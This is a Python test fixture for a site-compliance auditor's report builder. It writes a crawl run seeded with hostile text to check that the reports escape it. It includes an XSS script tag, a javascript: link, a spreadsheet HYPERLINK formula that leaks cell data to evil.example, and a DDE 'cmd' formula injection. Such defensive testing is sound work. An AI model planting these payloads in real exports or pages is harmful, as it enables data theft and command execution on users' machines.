"""Tests of auditor.report; a run with hostile crawled text, written through the public API."""

from __future__ import annotations

import os
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from auditor.extract import ExifFacts, ImageFacts
from auditor.extract.embedded import C2paAssertion, C2paEntry, C2paFacts, DataMiningValue, XmpFacts
from auditor.model import (
    Finding,
    ImageContext,
    ImageRecord,
    Outcome,
    PageRecord,
    RunCounters,
    Scope,
    Severity,
    SignalRecord,
    SkipRecord,
    Subject,
    SuppressionInfo,
    SuppressionStatus,
    Verdict,
    frozen_map,
)
from auditor.report.builder import from_store
from auditor.report.data import Anchor, FindingView, GateSummary, ReportData, RuleInfo
from auditor.store import Store, open_store

SITE = "https://photos.example.org"
AT = "2025-11-22T10:00:00+00:00"
HOSTILE = "<script>alert(1)</script> | [x](javascript:1)"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@dataclass(frozen=True)
class Rule:
    """Title and severity of a rule."""

    title: str
    severity: Severity


def _facts(*, gps: bool) -> ImageFacts:
    return ImageFacts(
        sha256="d" * 64,
        size_bytes=1000,
        format="JPEG",
        mime="image/jpeg",
        width=10,
        height=20,
        frames=1,
        phash="0f0f0f0f0f0f0f0f",
        exif=ExifFacts(
            gps_present=gps,
            gps_lat=48.85 if gps else None,
            gps_lon=-2.35 if gps else None,
            datetime_original=None,
            camera_serial=None,
            artist="+SUM(1,2)",
            copyright="@evil",
            make=None,
            model=None,
        ),
        xmp=XmpFacts(
            locations=("jpeg_app1",),
            data_mining=(DataMiningValue("DMI-PROHIBITED-AIMLTRAINING", "text"),),
            usage_terms=FORMULA,
            dc_creators=("Jo Photographer",),
        ),
        c2pa=C2paFacts(
            present=True,
            validation_state="Valid",
            training_mining=(
                C2paAssertion(
                    label="c2pa.training-mining",
                    manifest="urn:uuid:1",
                    active=True,
                    entries=(C2paEntry("c2pa.ai_training", "notAllowed"),),
                ),
            ),
        ),
    )


def _finding(
    rule_id: str, severity: Severity, n: int, *, outcome: Outcome = Outcome.FAIL
) -> Finding:
    url = f"{SITE}/img/{n}.jpg"
    return Finding(
        rule_id=rule_id,
        pack="uk-gdpr",
        jurisdiction="UK",
        outcome=outcome,
        severity=severity,
        subject=Subject.IMAGE,
        message=f"{url} titled {HOSTILE} was collected",
        references=("UK GDPR Art. 6",),
        evidence=frozen_map({"title": HOSTILE, "faces": None}),
        fingerprint=f"{rule_id}-{n}",
        title=f"Rule {rule_id}",
        remediation="-remove it",
        image_url=url,
        page_url=f"{SITE}/",
        site=SITE,
    )


def write_run(path: Path) -> tuple[Store, int]:
    """Open a database at ``path`` and write the hostile scenario; return store and run id."""
    store = open_store(path)
    run_id = store.begin_run(
        tool_version="0.1.0",
        started_at=AT,
        config_hash="c" * 64,
        policy_hash="p" * 64,
        config_json={},
        options_json={},
    )
    with store.writer(run_id) as writer:
        writer.add_page(
            PageRecord(
                url=f"{SITE}/",
                final_url=f"{SITE}/",
                site=SITE,
                depth=0,
                status=200,
                content_type="text/html",
                fetched_at=AT,
                title=HOSTILE,
                headers=(("x-robots-tag", "noai"),),
                tdm_meta=(("tdm-reservation", "1"),),
                signals=(
                    SignalRecord(
                        mechanism="tdmrep.html",
                        scope=Scope.PAGE,
                        source_url=f"{SITE}/",
                        raw_value="@1",
                        purposes=frozen_map({"tdm": Verdict.DISALLOWED}),
                        notes=("non_canonical",),
                    ),
                ),
            )
        )
        writer.add_image(
            ImageRecord(
                url=f"{SITE}/img/1.jpg",
                site=SITE,
                contexts=(ImageContext(page_url=f"{SITE}/", kind="img", alt=FORMULA),),
                fetched=True,
                skip_reason=None,
                fetched_at=AT,
                status=200,
                content_type="image/jpeg",
                headers=(("x-robots-tag", "-noai"),),
                facts=_facts(gps=True),
                signals=(
                    SignalRecord(
                        mechanism="x_robots_tag",
                        scope=Scope.RESPONSE,
                        source_url=f"{SITE}/img/1.jpg",
                        raw_value="\tnoai\r\n=cmd|' /C calc'!A0",
                        purposes=frozen_map({"ai-train": Verdict.DISALLOWED}),
                        notes=("lenient_parse",),
                    ),
                ),
                usage=frozen_map({"crawl": Verdict.ALLOWED, "ai-train": Verdict.DISALLOWED}),
                usage_conflicts=("ai-train",),
                jurisdictions=frozen_map({"FR": 0.7}),
            )
        )
        writer.add_image(
            ImageRecord(
                url=f"{SITE}/img/0.jpg",
                site=SITE,
                contexts=(ImageContext(page_url=f"{SITE}/", kind="img"),),
                fetched=False,
                skip_reason="robots_disallowed",
                fetched_at=None,
            )
        )
        writer.add_skip(SkipRecord(f"{SITE}/img/0.jpg", "image", "robots_disallowed", None, AT))
        writer.add_skip(SkipRecord(f"{SITE}/x", "page", HOSTILE, "detail", AT))
        writer.add_skip(SkipRecord(f"{SITE}/y", "page", HOSTILE, "detail", AT))
        writer.add_findings(
            [
                _finding("R-CRIT", Severity.CRITICAL, 1),
                _finding("R-HIGH", Severity.HIGH, 1),
                _finding("R-HIGH", Severity.HIGH, 2),
                _finding("R-HIGH", Severity.HIGH, 3, outcome=Outcome.REVIEW),
                _finding("R-INFO", Severity.INFO, 1, outcome=Outcome.INSUFFICIENT_DATA),
            ]
        )
        writer.add_rule_stats(
            {
                ("uk-gdpr", "R-CRIT"): {"fail": 1},
                ("uk-gdpr", "R-HIGH"): {"fail": 2, "review": 1, "pass": 7},
                ("uk-gdpr", "R-OK"): {"pass": 9},
            },
            rules={
                ("uk-gdpr", "R-CRIT"): Rule(HOSTILE, Severity.CRITICAL),
                ("uk-gdpr", "R-HIGH"): Rule("High", Severity.HIGH),
                ("uk-gdpr", "R-OK"): Rule("Fine", Severity.LOW),
            },
        )
    store.finish_run(
        run_id,
        finished_at=AT,
        status="complete",
        counters=RunCounters(pages=1, images=2, images_fetched=1, skips=3, errors=4),
    )
    return store, run_id


NOW = datetime(2025, 11, 22, 12, 0, tzinfo=UTC)
GOLDEN = Path(__file__).parent / "golden"


def assert_golden(name: str, text: str) -> None:
    """Compare ``text`` with ``golden/<name>`` byte for byte; ``UPDATE_GOLDEN=1`` rewrites it."""
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
        return
    assert path.exists(), f"{path} is missing: run with UPDATE_GOLDEN=1 to create it"
    assert path.read_bytes().decode("utf-8") == text, (
        f"{name} differs from its golden file; if the change is intended, regenerate it with "
        "UPDATE_GOLDEN=1 and review the diff"
    )


def sample_report(path: Path, *, states: bool = True) -> ReportData:
    """The hostile run of :func:`write_run` as report data, with every gate state represented.

    The first finding is baselined and the second suppressed (with a register entry), so every
    reporter's handling of states, escaping and evidence is exercised by the same data.
    """
    store, run_id = write_run(path)
    with store:
        findings = list(store.iter_findings(run_id))
        suppression = SuppressionInfo(
            reason=f"legal hold {HOSTILE}",
            author="a.compliance@example.org",
            created="2025-11-01",
            expires="2026-05-01",
            fingerprint=findings[1].fingerprint if len(findings) > 1 else None,
        )
        views = [FindingView(finding) for finding in findings]
        if states and len(views) > 1:
            views[0] = FindingView(findings[0], "baselined")
            views[1] = FindingView(findings[1], "suppressed", suppression)
        register = (
            (
                SuppressionStatus(suppression, "active", 1),
                SuppressionStatus(
                    SuppressionInfo(
                        "old waiver",
                        "x@example.org",
                        "2024-01-01",
                        "2024-06-01",
                        rule="R-OK",
                        scope=f"{SITE}/*",
                    ),
                    "expired",
                    0,
                ),
            )
            if states
            else ()
        )
        gate = GateSummary(
            fail_on=Severity.HIGH,
            counted_outcomes=(Outcome.FAIL,),
            blocking=1,
            exit_code=1,
            exit_zero=False,
            fixed=("0" * 32,),
            warnings=("suppression for rule R-OK expired on 2024-06-01",),
        )
        rules = {
            f.rule_id: RuleInfo(
                id=f.rule_id, pack=f.pack, jurisdiction=f.jurisdiction, title=f.title,
                severity=f.severity, subject=f.subject.value, references=f.references,
                remediation=f.remediation or "", tags=("ico-clearview-1",),
                anchor=Anchor(f"policies/{f.pack}.yaml", 10),
            )
            for f in findings
        }  # fmt: skip
        return from_store(
            store, run_id, rules=rules, now=NOW, views=views, gate=gate,
            suppressions=register, config_path=None, mode="crawl",
        )  # fmt: skip
